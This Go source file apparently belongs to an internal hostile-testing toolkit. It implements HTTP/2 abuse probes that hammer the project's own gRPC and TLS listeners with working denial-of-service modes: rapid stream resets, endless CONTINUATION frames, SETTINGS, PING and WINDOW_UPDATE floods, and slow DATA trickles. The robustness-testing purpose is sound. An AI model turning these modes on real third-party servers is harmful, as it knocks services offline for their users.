// Package h2abuse is the body of the HTTP/2 frame-level abuse probes h2f11b
// (the gRPC listener, h2c), h2tls13a and h2tls14a (the HTTP listeners over
// TLS with ALPN h2): each command keeps its own flags, cited by the hostile
// passes' notes as reproduction commands, and hands them to Run.
package h2abuse

import (
	"bytes"
	"crypto/tls"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/classifierd/classifierd/tools/hostile/internal/probe"
)

// Config is what a command's flags say.
type Config struct {
	Addr      string
	Mode      string
	Path      string // the requests' :path
	Token     string // bearer token (empty: none)
	TLS       bool   // TLS with ALPN h2 (else h2c prior knowledge)
	Conns     int
	Streams   int // tiny: streams per connection
	Len       int // tiny: declared message length
	Chunk     int // tiny: bytes per DATA frame
	Hold      time.Duration
	Read      bool // read (and drain) the server's frames
	Reconnect bool
	Per       int // rst: resets per connection (0: no limit)
	// Fields are the header fields of every request.
	Fields func() []hpack.HeaderField
	// Status counts answers by :status as well as by grpc-status.
	Status bool
	// ContLit offers the mode contlit (else it is an unknown mode).
	ContLit bool
	// Out receives the report (nil: standard output).
	Out io.Writer
}

// Flags defines on the command line the flags the abuse commands share,
// into the Config it returns (read it after flag.Parse); -addr and -path
// take the command's own default and usage.
func Flags(addr, addrUsage, path, pathUsage string) *Config {
	c := &Config{}
	flag.StringVar(&c.Addr, "addr", addr, addrUsage)
	flag.StringVar(&c.Mode, "mode", "tiny", "tiny, cont, settings, winupd, winover, rst, ping, empty, priority, badorder")
	flag.StringVar(&c.Path, "path", path, pathUsage)
	flag.StringVar(&c.Token, "token", "", "bearer token")
	flag.IntVar(&c.Conns, "conns", 4, "connections")
	flag.IntVar(&c.Streams, "streams", 1, "tiny: streams per connection")
	flag.IntVar(&c.Len, "len", 4<<20-16, "tiny: declared message length")
	flag.IntVar(&c.Chunk, "chunk", 1, "tiny: bytes per DATA frame")
	flag.DurationVar(&c.Hold, "hold", 10*time.Second, "how long")
	flag.BoolVar(&c.Read, "read", true, "read (and drain) the server's frames")
	flag.BoolVar(&c.Reconnect, "reconnect", false, "connect again whenever the server closes a connection, until -hold")
	flag.IntVar(&c.Per, "per", 0, "rst: close the connection after this many resets (0: never), and with -reconnect open another")
	return c
}

// TLSFlags defines the flags of the commands for the HTTP listeners
// (h2tls13a, h2tls14a): -tls into c.TLS, and -ctype, returned. Their
// answers are counted by :status too, and they offer the mode contlit.
func (c *Config) TLSFlags() (ctype *string) {
	c.Status, c.ContLit = true, true
	flag.BoolVar(&c.TLS, "tls", true, "TLS with ALPN h2 (false: h2c prior knowledge)")
	return flag.String("ctype", "application/json", "content-type")
}

type abuse struct {
	Config
	answers   probe.Tally
	sentTotal atomic.Int64
}

// Run opens c.Conns connections for c.Hold, abuses each as c.Mode says, and
// prints the frames sent and the answers by kind.
func Run(c Config) {
	a := &abuse{Config: c}
	var wg sync.WaitGroup
	for range a.Conns {
		wg.Go(func() {
			end := time.Now().Add(a.Hold)
			for {
				if err := a.run(end); err != nil {
					a.answers.Count("conn end: " + clip(err.Error()))
				}
				if !a.Reconnect || time.Now().After(end) {
					return
				}
				a.answers.Count("reconnects")
			}
		})
	}
	wg.Wait()
	out := a.Out
	if out == nil {
		out = os.Stdout
	}
	fmt.Fprintf(out, "%10d  frames (or streams) sent in all, %.0f/s\n", a.sentTotal.Load(), float64(a.sentTotal.Load())/a.Hold.Seconds())
	a.answers.Print(out, 10)
}

func clip(s string) string {
	if i := strings.LastIndex(s, ": "); i >= 0 && strings.Contains(s, "127.0.0.1") {
		s = s[i+2:] // drop the addresses: one line per kind of end
	}
	if len(s) > 70 {
		return s[:70]
	}
	return s
}

func (a *abuse) dial() (net.Conn, error) {
	if !a.TLS {
		return net.Dial("tcp", a.Addr)
	}
	c, err := tls.Dial("tcp", a.Addr, probe.TLSConfig())
	if err == nil && c.ConnectionState().NegotiatedProtocol != "h2" {
		c.Close()
		return nil, fmt.Errorf("ALPN %q, not h2", c.ConnectionState().NegotiatedProtocol)
	}
	return c, err
}

// freeSlot lets a flood send one more call: an answer came.
func freeSlot(slots chan struct{}) {
	select {
	case <-slots:
	default:
	}
}

func (a *abuse) read(fr *http2.Framer, wmu *sync.Mutex, slots chan struct{}) {
	err := probe.ReadLoop(fr, wmu, false, func(f http2.Frame) {
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			for _, h := range f.Fields {
				if a.Status && h.Name == ":status" {
					freeSlot(slots)
					a.answers.Count(":status " + h.Value)
				}
				if h.Name == "grpc-status" {
					freeSlot(slots)
					m := ""
					for _, g := range f.Fields {
						if g.Name == "grpc-message" {
							m = clip(g.Value)
						}
					}
					a.answers.Count("grpc-status=" + h.Value + " " + m)
				}
			}
		case *http2.RSTStreamFrame:
			a.answers.Count("rst " + f.ErrCode.String())
		case *http2.GoAwayFrame:
			a.answers.Count("goaway " + f.ErrCode.String() + " " + clip(string(f.DebugData())))
		case *http2.PingFrame:
			if f.IsAck() {
				a.answers.Count("ping ack")
			}
		}
	})
	a.answers.Count("read end: " + clip(err.Error()))
}

func (a *abuse) run(stop time.Time) error {
	nc, err := a.dial()
	if err != nil {
		return err
	}
	defer nc.Close()
	_ = nc.SetDeadline(stop.Add(3 * time.Second))
	fr, err := probe.Start(nc, 65536, probe.BigWindow)
	if err != nil {
		return err
	}
	var wmu sync.Mutex
	done := make(chan struct{})
	slots := make(chan struct{}, 60)
	if a.Read {
		go func() {
			defer close(done)
			a.read(fr, &wmu, slots)
		}()
	}
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	headers := func() []byte { return probe.Block(enc, &hb, a.Fields()) }
	w := func(f func() error) error { wmu.Lock(); defer wmu.Unlock(); return f() }
	call := func(id uint32, blk []byte) error { // a whole call: HEADERS, then an empty message ending the stream
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndHeaders: true}); err != nil {
			return err
		}
		return fr.WriteData(id, true, []byte{0, 0, 0, 0, 0})
	}
	ended := func() bool {
		select {
		case <-done:
			return true
		default:
			return time.Now().After(stop)
		}
	}
	var sent int64
	defer func() { a.sentTotal.Add(sent) }()
	switch a.Mode {
	case "tiny": // messages of -len bytes in DATA frames of -chunk bytes
		ids := []uint32{}
		for i := range a.Streams {
			id := uint32(2*i + 1)
			ids = append(ids, id)
			blk := headers()
			if err := w(func() error {
				return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndHeaders: true})
			}); err != nil {
				return err
			}
			hdr := []byte{0, byte(a.Len >> 24), byte(a.Len >> 16), byte(a.Len >> 8), byte(a.Len)}
			if err := w(func() error { return fr.WriteData(id, false, hdr) }); err != nil {
				return err
			}
		}
		b := bytes.Repeat([]byte{0x0a}, a.Chunk) // 0x0a: field 1, wire type 2 (junk protobuf is fine: it is never decoded)
		for off := 0; off < a.Len && !ended(); off += a.Chunk {
			for _, id := range ids {
				if err := w(func() error { return fr.WriteData(id, false, b) }); err != nil {
					return err
				}
				sent++
			}
		}
		a.answers.Count("tiny: all sent or ended")
		<-time.After(time.Until(stop))
	case "cont": // one HEADERS without END_HEADERS, then CONTINUATION frames forever
		blk := headers()
		if err := w(func() error {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: blk, EndHeaders: false})
		}); err != nil {
			return err
		}
		pad := []byte{}
		for !ended() {
			if err := w(func() error { return fr.WriteContinuation(1, false, pad) }); err != nil {
				return err
			}
			sent++
		}
	case "contlit": // one HEADERS without END_HEADERS, then CONTINUATION frames of new literal fields
		if !a.ContLit {
			return fmt.Errorf("mode %q", a.Mode)
		}
		blk := headers()
		if err := w(func() error {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: blk, EndHeaders: false})
		}); err != nil {
			return err
		}
		for i := 0; !ended(); i++ {
			frag := probe.Block(enc, &hb, []hpack.HeaderField{{Name: fmt.Sprintf("x-h%d", i), Value: strings.Repeat("a", 1000), Sensitive: true}})
			if err := w(func() error { return fr.WriteContinuation(1, false, frag) }); err != nil {
				return err
			}
			sent++
		}
	case "settings":
		for !ended() {
			if err := w(func() error {
				return fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 1<<32 - 1}, http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1<<24 - 1},
					http2.Setting{ID: http2.SettingMaxHeaderListSize, Val: 1<<32 - 1}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
			}); err != nil {
				return err
			}
			sent++
		}
	case "winupd":
		for !ended() {
			if err := w(func() error { return fr.WriteWindowUpdate(0, 1) }); err != nil {
				return err
			}
			sent++
		}
	case "winover":
		_ = w(func() error { return fr.WriteWindowUpdate(0, 1<<31-1) })
		_ = w(func() error { return fr.WriteWindowUpdate(0, 1<<31-1) })
		blk := headers()
		_ = w(func() error {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: blk, EndHeaders: true})
		})
		_ = w(func() error { return fr.WriteWindowUpdate(1, 1<<31-1) })
		_ = w(func() error { return fr.WriteWindowUpdate(1, 1<<31-1) })
		sent = 5
		wait(done, stop)
	case "rst":
		id := uint32(1)
		for !ended() {
			blk := headers()
			if err := w(func() error {
				if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndHeaders: true}); err != nil {
					return err
				}
				return fr.WriteRSTStream(id, http2.ErrCodeCancel)
			}); err != nil {
				return err
			}
			id += 2
			sent++
			if a.Per > 0 && sent >= int64(a.Per) {
				return nil
			}
		}
	case "flood": // legitimate calls (an empty message each), up to 60 in flight, answers read
		id := uint32(1)
		for !ended() {
			select {
			case slots <- struct{}{}:
			case <-time.After(time.Until(stop)):
			}
			blk := headers()
			if err := w(func() error { return call(id, blk) }); err != nil {
				return err
			}
			id += 2
			sent++
		}
	case "rstmsg": // HEADERS, an empty message, then RST_STREAM
		id := uint32(1)
		for !ended() {
			blk := headers()
			if err := w(func() error {
				if err := call(id, blk); err != nil {
					return err
				}
				return fr.WriteRSTStream(id, http2.ErrCodeCancel)
			}); err != nil {
				return err
			}
			id += 2
			sent++
		}
	case "ping":
		for i := uint64(0); !ended(); i++ {
			if err := w(func() error { return fr.WritePing(false, [8]byte{byte(i), byte(i >> 8), byte(i >> 16)}) }); err != nil {
				return err
			}
			sent++
		}
	case "empty": // a call, then empty DATA frames without END_STREAM forever
		blk := headers()
		if err := w(func() error {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: blk, EndHeaders: true})
		}); err != nil {
			return err
		}
		for !ended() {
			if err := w(func() error { return fr.WriteData(1, false, nil) }); err != nil {
				return err
			}
			sent++
		}
	case "priority":
		for i := uint32(1); !ended(); i += 2 {
			if err := w(func() error {
				return fr.WritePriority(i, http2.PriorityParam{StreamDep: i + 2, Weight: 255})
			}); err != nil {
				return err
			}
			sent++
		}
	case "badorder": // HEADERS for a stream id lower than one already used
		blk := headers()
		_ = w(func() error {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 101, BlockFragment: blk, EndHeaders: true})
		})
		_ = w(func() error {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 3, BlockFragment: blk, EndHeaders: true})
		})
		sent = 2
		wait(done, stop)
	default:
		return fmt.Errorf("mode %q", a.Mode)
	}
	return nil
}

// wait holds the connection until the server ends it or stop.
func wait(done chan struct{}, stop time.Time) {
	select {
	case <-done:
	case <-time.After(time.Until(stop)):
	}
}

// Scheme is the :scheme of a request over TLS (https) or h2c (http).
func Scheme(useTLS bool) string {
	if useTLS {
		return "https"
	}
	return "http"
}
